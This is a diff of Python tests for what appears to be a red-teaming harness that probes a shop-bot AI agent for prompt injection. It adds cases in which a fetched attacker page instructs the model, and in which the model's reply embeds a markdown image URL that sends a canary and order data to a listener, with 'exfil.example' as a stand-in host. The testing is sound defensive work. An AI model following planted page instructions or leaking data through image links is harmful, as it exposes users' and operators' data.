@@ -163,16 +163,22 @@ def test_a_tool_that_reached_a_host_its_destinations_do_not_name_reopens_its_pat
     assert "contradicts" not in plain["results"][0] and plain["summary"]["contradicted"] == {}
 
 
-def test_a_tool_that_brought_the_attackers_page_is_no_trusted_source(tmp_path, cli):
-    # The manifest says the lab's fetch tool returns internal output; the page it fetched carried the
-    # attacker's instruction to the model. Forced to run the tool-output probe the manifest rules
-    # out, the campaign says so, and check with its evidence takes the output as untrusted.
+def _fetch_said_internal(tmp_path: Path) -> Path:
+    """The shop bot with its fetch tool written as returning internal output, which it does not."""
     manifest = tmp_path / "bot"
     shutil.copytree(SHOPBOT, manifest)
     app = manifest / "app-team.yaml"
     text = app.read_text(encoding="utf-8")
     at = text.index("  - id: fetch-url")
     app.write_text(text[:at] + text[at:].replace("output-trust: untrusted", "output-trust: internal", 1), encoding="utf-8")
+    return manifest
+
+
+def test_a_tool_that_brought_the_attackers_page_is_no_trusted_source(tmp_path, cli):
+    # The manifest says the lab's fetch tool returns internal output; the page it fetched carried the
+    # attacker's instruction to the model. Forced to run the tool-output probe the manifest rules
+    # out, the campaign says so, and check with its evidence takes the output as untrusted.
+    manifest = _fetch_said_internal(tmp_path)
     before = json.loads(cli("check", manifest, "--format", "json").stdout)
     assert not [p for p in before["paths"] if p["source"] == "fetch-url"]
     db = str(tmp_path / "h.sqlite")
@@ -186,6 +192,46 @@ def test_a_tool_that_brought_the_attackers_page_is_no_trusted_source(tmp_path, c
     assert [p for p in after["paths"] if p["open"] and p["source"] == "fetch-url"]
     finding = next(f for f in after["findings"] if f["id"] == "manifest-contradicted:fetch-url:output-trust")
     assert "returns internal output" in finding["explanation"] and "untrusted: a way in" in finding["explanation"]
+
+
+def test_an_image_the_harness_loaded_is_no_request_of_the_target():
+    # The answer carries an image to the listener, which the harness loads as a chat client would: that
+    # request went through no tool and no egress of the target, so it shows neither a fetch nor the
+    # cloud team's egress letting one out. The same request made twice, once by the target, does.
+    canary = "dmc0123456789abcd"
+    url = f"http://127.0.0.1:9/c/{canary}?d=orders"
+    (case,) = select("doc-fetch-ping")
+    reply = Reply(status=200, text=f"Here you go ![x]({url})", tool_calls=[], session="s")
+    hit = {"method": "GET", "path": f"/c/{canary}", "query": "d=orders", "body": ""}
+
+    def judged(hits):
+        return attribute(case, canary, f"{canary}@exfil.example", Evidence(reply, Records(), hits, [], [url]),
+                         Responsibilities(load([SHOPBOT])), None, None)
+
+    harness_only = judged([hit])
+    assert harness_only.outcome == "inconclusive"
+    assert "INF-NET-03" not in {x.control for x in harness_only.chain}
+    both = judged([hit, dict(hit)])
+    egress = {x.control: x for x in both.chain}["INF-NET-03"]
+    assert both.outcome == "succeeded" and egress.held is False
+
+
+def test_only_a_fetch_that_ran_shows_which_tool_brought_the_page(tmp_path):
+    # The page was served, and the one call shown with its URL is to a tool said to return internal
+    # output: only if that call ran did the page come through it (a refused call fetched nothing).
+    manifest = _fetch_said_internal(tmp_path)
+    resp = Responsibilities(load([manifest]))
+    canary, product = "dmc0123456789abcd", "dmp0123456789abc"
+    (case,) = select("page-say-canary")
+
+    def contradicts(status):
+        call = {"name": "fetch_url", "arguments": {"url": f"http://127.0.0.1:9/p/{product}/page.html"}, "status": status}
+        reply = Reply(status=200, text="Summary of the page.", tool_calls=[call], session="s")
+        ev = Evidence(reply, Records(), [], [], delivered=True, planted=[product])
+        return [(c.component, c.attribute) for c in attribute(case, canary, "", ev, resp, None, None).contradicts]
+
+    assert contradicts("ok") == [("fetch-url", "output-trust")]
+    assert contradicts("error") == []
 
 
 def test_a_canary_that_left_with_another_tool_as_well_contradicts_no_destinations(tmp_path):
